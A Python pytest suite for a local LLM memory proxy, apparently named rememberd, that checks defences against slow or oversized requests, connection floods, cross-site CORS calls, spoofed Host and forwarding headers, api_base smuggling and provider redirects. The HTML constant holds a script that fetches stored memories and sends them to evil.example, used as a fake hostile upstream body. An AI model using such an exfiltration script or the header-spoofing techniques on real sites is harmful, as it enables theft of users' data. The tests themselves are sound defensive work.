"""What the network may not do: strangers, slow and greedy clients, other sites' pages, redirecting providers."""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from rememberd.errors import ConfigError
from rememberd.http.response_headers import response_headers
from rememberd.settings.schema import load
from tests.support.fake_model import Behaviour, FakeModel
from tests.support.proxy_in_process import running_here
from tests.support.proxy_server import KEYS, PATIENCE, Proxy, ask, entry, eventually, memories, remembered, running

PAGE = "https://chat.example"
HTTP_MD = Path(__file__).parents[2] / "proxy" / "HTTP.md"
LIMITS = {"port": 0, "head_seconds": 1, "body_seconds": 2, "max_connections": 20, "cors_origins": [PAGE]}

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-alice\r\n"


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory, upstream: FakeModel) -> Iterator[Proxy]:
    others = [entry("claude", "anthropic/claude-x", upstream.origin)]
    folder = tmp_path_factory.mktemp("own")
    with running_here(folder, {"model-a": upstream.url}, others=others, keys=KEYS, server=LIMITS) as proxy:
        yield proxy


def connected(proxy: Proxy) -> socket.socket:
    where = urlsplit(proxy.url)
    return socket.create_connection((where.hostname, where.port), timeout=PATIENCE)


def said(connection: socket.socket) -> bytes:
    """Everything until the other side closes."""
    chunks = []
    try:
        while chunk := connection.recv(65536):
            chunks.append(chunk)
    except ConnectionResetError:
        pass
    return b"".join(chunks)


def refused(proxy: Proxy, reason: str) -> float:
    wanted = f'rememberd_connections_refused_total{{reason="{reason}"}} '
    metrics = httpx.get(f"{proxy.url}/metrics").text
    return sum(float(line.removeprefix(wanted)) for line in metrics.splitlines() if line.startswith(wanted))


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.1", "example.org"])
def test_it_refuses_to_be_reached_from_elsewhere_without_keys(tmp_path: Path, host: str) -> None:
    """Not at the first request, but before it starts."""
    path = tmp_path / "rememberd.yaml"
    path.write_text(f"server: {{host: '{host}'}}\n")
    with pytest.raises(ConfigError, match="refusing to listen"):
        load(path, {})
    path.write_text(f"server: {{host: '{host}'}}\nadmin_key: sk-admin\n")
    assert load(path, {}).admin_key == "sk-admin"


@pytest.mark.slow
def test_with_an_admin_key_alone_nobody_is_local_elsewhere(tmp_path: Path, upstream: FakeModel) -> None:
    """Listening beyond loopback, without a key nobody comes in, from this machine neither."""
    with running(
        tmp_path,
        {"model-a": upstream.url},
        keys=None,
        admin_key="sk-admin",
        server={"port": 0, "host": "0.0.0.0", "workers": 1},
    ) as proxy:
        url = f"http://127.0.0.1:{urlsplit(proxy.url).port}"
        assert httpx.get(f"{url}/v1/memories").status_code == 401
        assert httpx.get(f"{url}/v1/models").status_code == 401


def test_a_head_that_never_ends_is_cut(own: Proxy) -> None:
    """431 beyond 64 KiB, whether the lines are many or one is long, and in whatever pieces they come."""
    before = refused(own, "head_too_large")
    for line in (b"X-Long: " + b"a" * 70_000, b"\r\n".join(b"X-%d: a" % n for n in range(9000)) + b"\r\n\r\n"):
        with connected(own) as connection:
            connection.sendall(HEAD + line)
            assert said(connection).startswith(b"HTTP/1.1 431 ")
    assert refused(own, "head_too_large") == before + 2


def test_a_large_body_behind_a_small_head_is_no_large_head(own: Proxy) -> None:
    """However much comes in one read."""
    with own.client(key="sk-alice") as client:
        assert ask(client, "word " * 60_000).status_code == 200


@pytest.mark.parametrize(
    "sent", [b"POST /v1/chat", *(pytest.param(each, marks=pytest.mark.slow) for each in (b"", HEAD))]
)
def test_a_head_that_does_not_come_is_not_waited_for(own: Proxy, sent: bytes) -> None:
    """A connection that says nothing, and one that says a little at a time."""
    with connected(own) as connection:
        connection.sendall(sent)
        began = time.monotonic()
        with suppress(BrokenPipeError, ConnectionResetError):
            while sent == HEAD and time.monotonic() - began < PATIENCE:
                connection.sendall(b"X")  # a byte at a time
                time.sleep(0.05)
        assert said(connection)[:13] in (b"HTTP/1.1 408 ", b"")
        assert time.monotonic() - began < PATIENCE


@pytest.mark.slow
def test_a_body_that_does_not_come_is_not_waited_for(own: Proxy) -> None:
    """Nor is a body that arrives byte by byte. The provider is not asked."""
    before = refused(own, "slow_body")
    with connected(own) as connection:
        connection.sendall(HEAD + b"Content-Length: 1000\r\n\r\n{")
        assert said(connection).startswith(b"HTTP/1.1 408 ")
    assert refused(own, "slow_body") == before + 1


@pytest.mark.slow
def test_a_slow_answer_is_not_a_slow_request(own: Proxy, upstream: FakeModel) -> None:
    """The limits are for what the client sends; a model may think for longer than they last."""
    upstream.script(Behaviour(answer="at last", delay_headers=1.5, delay_first=1.5))
    with own.client(key="sk-alice") as client:
        reply = ask(client, "Think.", stream=True)
    assert reply.status_code == 200
    assert b"[DONE]" in reply.content


def test_a_flood_of_connections_is_turned_away_and_the_rest_served(own: Proxy) -> None:
    """503 with Retry-After, in a shape that an SDK reads; when they leave there is room again."""
    with ExitStack() as open:
        held = [open.enter_context(connected(own)) for _ in range(30)]
        answers = [said(connection) for connection in held]
    turned_away = [answer for answer in answers if answer.startswith(b"HTTP/1.1 503 ")]
    assert len(turned_away) >= 10
    assert b"retry-after: 1" in turned_away[0]
    assert b'"code":"too_many_connections"' in turned_away[0]
    eventually(lambda: httpx.get(f"{own.url}/health/live").status_code == 200)


def preflight(proxy: Proxy, origin: str) -> httpx.Response:
    asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
    asked["Access-Control-Request-Headers"] = "authorization,content-type,x-memory"
    return httpx.options(f"{proxy.url}/v1/chat/completions", headers=asked)


def test_pages_of_other_sites_may_not_call_unless_they_are_listed(own: Proxy, proxy: Proxy) -> None:
    """A browser asks first, and is told no; listed ones may, without cookies, and read each header of HTTP.md."""
    allowed = preflight(own, PAGE)
    assert allowed.status_code == 200
    assert allowed.headers["access-control-allow-origin"] == PAGE
    assert "access-control-allow-credentials" not in allowed.headers
    assert "x-memory" in allowed.headers["access-control-allow-headers"].lower()
    with own.client(key="sk-alice", Origin=PAGE) as client:
        shown = ask(client, "Hi").headers["access-control-expose-headers"]
    described = HTTP_MD.read_text().partition("## Response headers of the three chat paths")[2].partition("\n## ")[0]
    names = set(re.findall(r"`(X-[\w-]+)`", described))
    assert "X-Memory-Status" in names
    assert names <= set(shown.split(", "))
    for where, origin in ((own, "https://evil.example"), (own, "null"), (proxy, PAGE)):
        assert "access-control-allow-origin" not in preflight(where, origin).headers
        with where.client(key="sk-alice", Origin=origin) as client:
            assert "access-control-allow-origin" not in ask(client, "Hi").headers


BODIES = [
    *("/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1/embeddings", "/v1/completions", "/v1/files"),
    *("/v1/memories", "/v1/memories/search", "/v1/memories/import", "/v1/memories/preview", "/mcp"),
    *("/api/chat", "/api/generate", "/admin/keys"),
]


@pytest.mark.parametrize("path", BODIES)
def test_no_body_is_read_before_the_key(own: Proxy, path: str) -> None:
    """The answer comes after the head, whatever is announced; what is sent all the same is read and thrown away, and
    the connection can be used again."""
    size = 8 * 2**20
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-none\r\nContent-Length: {size}\r\n\r\n"
    with connected(own) as connection:
        connection.sendall(head.encode())
        first = connection.recv(65536)
        assert first.split()[1] in (b"401", b"403", b"404"), first
        with suppress(ConnectionError):
            connection.sendall(bytes(size))
            connection.sendall(b"GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            assert b"200 OK" in said(connection)


def test_keyless_bodies_cost_no_memory(served: Proxy) -> None:
    """Fifteen connections with thirty megabytes each: what the process holds grows by less than two of them."""
    (pid,) = served.pids("web")
    before = resident(pid)
    with ExitStack() as stack:
        connections = [stack.enter_context(connected(served)) for _ in range(15)]
        head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 31457280\r\n\r\n"
        for connection in connections:
            connection.sendall(head)
        for _ in range(29):
            for connection in connections:
                with suppress(ConnectionError):
                    connection.sendall(bytes(2**20))
        assert resident(pid) - before < 60 * 2**20


def resident(pid: int) -> int:
    """Bytes of memory that the process holds."""
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.partition("VmRSS:")[2].split()[0]) * 1024


HI = [{"role": "user", "content": "Hi"}]
HTML = b"<script>fetch('/v1/memories').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>"


@pytest.fixture(scope="module")
def unlocked(tmp_path_factory: pytest.TempPathFactory, upstream: FakeModel) -> Iterator[Proxy]:
    """Without keys, for this machine only."""
    folder, server = tmp_path_factory.mktemp("unlocked"), {"port": 0, "cors_origins": [PAGE]}
    with running_here(folder, {"model-a": upstream.url}, keys=None, server=server) as proxy:
        yield proxy


def test_without_keys_everyone_here_is_the_user_local(unlocked: Proxy) -> None:
    """Any key, or none, is accepted."""
    body = {"model": "model-a", "messages": [{"role": "user", "content": "I live in Ystad."}]}
    for headers in ({}, {"Authorization": "Bearer whatever"}, {"Origin": "http://localhost:3000"}):
        assert httpx.post(f"{unlocked.url}/v1/chat/completions", json=body, headers=headers).status_code == 200
    with httpx.Client(base_url=unlocked.url) as client:
        remembered(client, "Ystad", "fact")
        assert len([each for each in memories(client, "episode") if "Ystad" in each["text"]]) == 1


def test_without_keys_no_web_page_gets_in_by_mcp(unlocked: Proxy) -> None:
    """A page of another site, or a name that was made to point here, could read the memory otherwise."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    accept = {"Accept": "application/json, text/event-stream"}
    for foreign, status in (
        ({"Origin": "https://evil.example"}, 403),
        ({"Host": "evil.example"}, 403),
        ({"Origin": "http://localhost:3000"}, 200),
    ):
        answer = httpx.post(f"{unlocked.url}/mcp", json=call, headers=accept | foreign, timeout=PATIENCE)
        assert (answer.status_code, "search_memories" in answer.text) == (status, status == 200)


@pytest.mark.parametrize("path", ["/v1/embeddings", "/v1/chat/completions"])
@pytest.mark.parametrize(("status", "kind"), [(200, "text/html"), (404, "image/svg+xml"), (500, "text/html")])
def test_what_an_upstream_sends_runs_nothing_in_a_browser(
    unlocked: Proxy, upstream: FakeModel, path: str, status: int, kind: str
) -> None:
    """Its HTML stands on the origin of the memory page."""
    upstream.script(Behaviour(status=status, body=HTML, headers={"Content-Type": kind}))
    reply = httpx.post(unlocked.url + path, json={"model": "model-a", "input": "x", "messages": HI})
    assert reply.headers["content-security-policy"].startswith("sandbox;")
    assert reply.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    ("kinds", "runs"),
    [
        (["application/json; charset=utf-8"], False),
        (["text/event-stream"], False),
        (["application/json, text/html"], True),
        (["application/json", "text/html"], True),
        (["application/xml"], True),
        ([], True),
    ],
)
def test_only_what_says_that_it_is_data_may_do_without_the_sandbox(kinds: list[str], runs: bool) -> None:
    sent = [("Content-Security-Policy", "default-src *"), *(("Content-Type", kind) for kind in kinds)]
    found = response_headers(sent, [], streamed=False)
    policies = [value for name, value in found if name == b"content-security-policy"]
    assert [value.startswith(b"sandbox;") for value in policies] == [True] * runs
    assert (b"x-content-type-options", b"nosniff") in found


STRANGERS = [
    {"X-Forwarded-For": "192.0.2.7"},
    {"X-Forwarded-For": "127.0.0.1"},
    {"Forwarded": "for=192.0.2.7"},
    {"X-Real-IP": "192.0.2.7"},
    {"X-Forwarded-Host": "memory.example"},
    {"Host": "memory.example"},
    {"Host": "127.0.0.1.evil.example"},
    {"Host": "192.0.2.1:8787"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
]
OPEN = ["/v1/memories", "/v1/models", "/v1/files/x", "/v1/receipts", "/v1/memories/export", "/metrics"]


@pytest.mark.parametrize("headers", STRANGERS, ids=str)
def test_without_keys_only_this_machine_is_served(unlocked: Proxy, headers: dict[str, str]) -> None:
    """Nobody behind a reverse proxy on it, and no page of another site: not by a link either."""
    asked = {path: httpx.get(unlocked.url + path, headers=headers) for path in OPEN}
    chat = httpx.post(f"{unlocked.url}/v1/chat/completions", json={"model": "model-a"}, headers=headers)
    replies = {**asked, "chat": chat}
    assert {path: reply.status_code for path, reply in replies.items()} == dict.fromkeys(replies, 403)


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Origin": PAGE, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"},
        {"Sec-Fetch-Site": "same-origin"},
        {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate"},
        {"Host": "localhost:8787"},
        {"Host": "[::1]:8787"},
    ],
    ids=str,
)
def test_without_keys_this_machine_and_the_listed_pages_are_served(unlocked: Proxy, headers: dict[str, str]) -> None:
    assert httpx.get(f"{unlocked.url}/v1/memories", headers=headers).status_code == 200


def test_with_an_admin_key_it_stays_closed_when_the_made_keys_are_lost(tmp_path: Path, upstream: FakeModel) -> None:
    """Where keys were made before, an empty database must not make everybody the local user."""
    with running_here(tmp_path, {"model-a": upstream.url}, keys=None, admin_key="sk-admin") as proxy:
        for path in ("/v1/memories", "/v1/models"):
            assert httpx.get(proxy.url + path).status_code == 401


def test_any_page_may_call_only_where_a_key_is_needed(tmp_path: Path) -> None:
    """Without keys `*` would hand the memories to whatever page the user looks at."""
    path = tmp_path / "rememberd.yaml"
    path.write_text('server: {cors_origins: ["*"]}\n')
    with pytest.raises(ConfigError, match="any web page could read"):
        load(path, {})


@pytest.mark.parametrize(
    "hostile",
    [
        {"api_base": "URL"},
        {"base_url": "URL"},
        {"api_key": "sk-mine", "api_base": "URL"},
        {"custom_llm_provider": "openai", "api_base": "URL"},
        {"model_list": [{"model_name": "model-a", "litellm_params": {"model": "openai/x", "api_base": "URL"}}]},
        {"fallbacks": [{"model": "openai/x", "api_base": "URL"}]},
        {"extra_headers": {"Host": "URL"}, "proxy": "URL"},
        {"extra_body": {"api_base": "URL"}, "litellm_params": {"api_base": "URL"}},
    ],
)
@pytest.mark.parametrize("model", ["model-a", pytest.param("claude", marks=pytest.mark.slow)])
def test_no_body_or_header_sends_a_request_elsewhere(own: Proxy, hostile: dict[str, Any], model: str) -> None:
    """This holds on the byte lane, and where litellm translates."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.settimeout(0.05)
        url = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/v1"
        body = {name: _filled(value, url) for name, value in hostile.items()}
        headers = {"X-Api-Base": url, "Forwarded": f"host={url}", "X-Forwarded-Host": url, "Proxy": url}
        with own.client(key="sk-alice", **headers) as client:
            ask(client, "Hi", model, **body)
        with pytest.raises(TimeoutError):
            elsewhere.accept()


@pytest.mark.parametrize("status", [302, 307])
@pytest.mark.parametrize("model", ["model-a", pytest.param("claude", marks=pytest.mark.slow)])
async def test_a_provider_cannot_send_a_request_elsewhere(
    own: Proxy, upstream: FakeModel, status: int, model: str
) -> None:
    """A redirect is an error that says what to do; the conversation and the key stay where they were sent."""
    async with FakeModel() as elsewhere:
        path = "/v1/messages" if model == "claude" else "/v1/chat/completions"
        upstream.script(Behaviour(status=status, headers={"Location": elsewhere.origin + path}))
        with own.client(key="sk-alice") as client:
            reply = ask(client, "My secret.", model)
        assert elsewhere.requests == []
    assert reply.status_code == 502
    assert "api_base" in reply.json()["error"]["message"]


def _filled(value: Any, url: str) -> Any:
    if isinstance(value, dict):
        return {name: _filled(each, url) for name, each in value.items()}
    if isinstance(value, list):
        return [_filled(each, url) for each in value]
    return url if value == "URL" else value
